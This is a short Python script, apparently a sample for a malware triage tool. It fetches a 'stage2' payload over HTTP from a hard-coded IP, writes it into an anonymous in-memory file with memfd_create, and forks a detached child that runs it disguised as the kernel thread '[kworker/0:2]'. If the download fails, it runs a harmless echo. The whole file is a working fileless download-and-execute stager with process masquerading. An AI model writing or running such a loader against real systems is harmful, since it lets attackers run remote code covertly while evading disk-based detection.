import ctypes
import os
import sys
import urllib.request

SRC = "http://203.0.113.50:8080/a/stage2"
FALLBACK = b"#!/bin/sh\necho pytriage-sample-memfd\n"


def load():
    try:
        return urllib.request.urlopen(SRC, timeout=10).read()
    except Exception:
        return FALLBACK


def memfd(name):
    if hasattr(os, "memfd_create"):
        return os.memfd_create(name, 0)
    libc = ctypes.CDLL(None)
    return libc.syscall(319, name.encode(), 0)  # __NR_memfd_create on x86_64


def main():
    blob = load()
    fd = memfd("kworker/0:2")
    os.write(fd, blob)
    path = "/proc/self/fd/%d" % fd
    if os.fork() == 0:
        os.setsid()
        os.execv(path, ["[kworker/0:2]"])
    sys.exit(0)


main()
